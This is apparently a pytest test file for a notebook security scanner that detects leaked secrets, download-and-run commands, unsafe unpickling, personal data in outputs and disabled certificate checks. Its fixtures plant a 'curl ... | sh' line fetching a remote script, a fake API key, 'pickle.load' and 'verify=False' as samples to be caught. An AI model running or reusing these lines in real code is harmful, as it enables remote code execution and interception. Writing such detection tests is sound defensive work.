"""Notebooks in a scan and by themselves: found, told apart from what could not be read, and never shown with their secrets."""

from __future__ import annotations

import json
from pathlib import Path

import nbformat
import pytest

import aispm_nb
from aispm_nb import samples
from aispm_nb.vocabulary import UsageError

SECRET = "sk-proj-" + "abcdefgh" * 4
CELLS = [
    ("markdown", f"the key is {SECRET}", ""),
    ("code", "import pickle\n!curl -s https://a.b/c.sh | sh", ""),
    ("code", "model = pickle.load(open('m.pkl', 'rb'))", ""),
    ("code", "x = (((", ""),
    ("code", "frame.head()", "jane.roe@corp.io"),
    ("code", "print(1)", "1"),
]
WANTED = {
    ("secret-in-cell", 0),
    ("download-run-in-shell", 1),
    ("notebook-unpickles", 2),
    ("personal-data-in-output", 4),
}


def _notebook() -> nbformat.NotebookNode:
    v4 = nbformat.v4
    made = []
    for kind, source, shown in CELLS:
        outputs = [v4.new_output("stream", text=shown)] if shown else []
        made.append(v4.new_code_cell(source, outputs=outputs) if kind == "code" else v4.new_markdown_cell(source))
    return v4.new_notebook(cells=made)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    root = tmp_path / "work"
    for below in ("deep", ".ipynb_checkpoints", "env"):
        (root / below).mkdir(parents=True)
    (root / "env" / "pyvenv.cfg").touch()
    for place in ("deep/a.ipynb", ".ipynb_checkpoints/a.ipynb", "env/a.ipynb"):
        nbformat.write(_notebook(), root / place)
    (root / "broken.ipynb").write_text("{")
    (root / "deeply.ipynb").write_text("[" * 100_000)
    (root / "train.py").write_text("import requests\nrequests.get('https://x', verify=False)\n")
    (root / "out.py").symlink_to("/etc/hostname")
    return root


@pytest.fixture
def bank_uri(tmp_path: Path) -> str:
    return str(samples.unpack("bank", tmp_path / "bank").uri)


def test_a_notebook_by_itself(folder: Path) -> None:
    report = aispm_nb.check_notebook(folder / "deep/a.ipynb", name="deep/a.ipynb")
    found = {(row.rule, int(row.asset.rpartition("-")[2])) for row in report.findings.itertuples()}
    assert found == WANTED
    assert list(report.not_assessed) == ["notebooks:/deep/a.ipynb#cell-3"]
    assert SECRET not in report.findings.to_json() + repr(report)


def test_an_object_is_read_as_its_file_is(folder: Path) -> None:
    body = json.loads((folder / "deep/a.ipynb").read_text())
    of_file = aispm_nb.check_notebook(folder / "deep/a.ipynb", name="n").findings
    assert aispm_nb.check_notebook(body, name="n").findings.equals(of_file)


def test_a_scan_with_a_workspace(folder: Path, tmp_path: Path, bank_uri: str) -> None:
    store = tmp_path / "posture.duckdb"
    posture = aispm_nb.connect(bank_uri, store=store, workspace=folder).scan(progress=False)
    here = posture.findings[posture.findings.asset.str.startswith(("notebooks:", "files:"))]
    found = {(row.rule, row.asset) for row in here.itertuples()}
    assert found == {(rule, f"notebooks:/deep/a.ipynb#cell-{cell}") for rule, cell in WANTED} | {
        ("certificates-not-checked", "files:/train.py")
    }
    assert SECRET not in posture.to_json() and SECRET.encode() not in store.read_bytes()
    unread = posture.sql(
        "SELECT DISTINCT unnest(examples) AS asset FROM not_assessed WHERE rule = 'notebook-unpickles'"
    )
    assert set(unread.asset) == {"notebooks:/broken.ipynb", "notebooks:/deeply.ipynb", "notebooks:/deep/a.ipynb#cell-3"}


def test_without_a_workspace_its_rules_are_not_assessed(tmp_path: Path, bank_uri: str) -> None:
    posture = aispm_nb.connect(bank_uri, store=tmp_path / "p.duckdb").scan(progress=False)
    [reason] = posture.sql("SELECT reason FROM not_assessed WHERE rule = 'secret-in-cell'").reason
    assert "workspace" in reason


def test_what_is_no_folder_and_no_notebook(tmp_path: Path, bank_uri: str) -> None:
    with pytest.raises(UsageError, match="expected a folder, found nothing"):
        aispm_nb.connect(bank_uri, store=tmp_path / "p.duckdb", workspace=tmp_path / "none").scan(progress=False)
    with pytest.raises(UsageError, match="expected a notebook"):
        aispm_nb.check_notebook(tmp_path / "none.ipynb")


def test_what_is_too_long_is_judged_as_far_as_it_was_read() -> None:
    long = nbformat.v4.new_code_cell(
        "print(1)", outputs=[nbformat.v4.new_output("stream", text="x" * 300_000 + SECRET)]
    )
    report = aispm_nb.check_notebook(nbformat.v4.new_notebook(cells=[long]), name="n.ipynb")
    assert report.findings.empty
    assert "not read to its end" in report.not_assessed["notebooks:/n.ipynb#cell-0"]
